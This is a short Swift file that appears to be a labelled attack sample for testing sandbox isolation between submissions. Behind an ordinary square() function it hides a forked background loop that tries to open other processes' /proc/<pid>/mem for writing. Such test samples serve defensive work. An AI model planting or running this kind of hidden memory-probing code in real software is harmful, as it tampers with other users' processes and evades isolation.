// Attack: Leaves a process that writes into every player's memory. Right if it sees another one.
// Verdict: leaked
// swift-format-ignore-file
import Glibc

private let tracer: Void = {
    let own = getpid()
    if fork() == 0 {
        while true {
            for id in 1...500 as ClosedRange<Int32> where id != own && id != getpid() {
                let file = open("/proc/\(id)/mem", O_RDWR)
                if file >= 0 { kill(own, SIGKILL) }
            }
        }
    }
}()

public func square(_ number: Int) throws -> Int {
    tracer
    return number * number
}
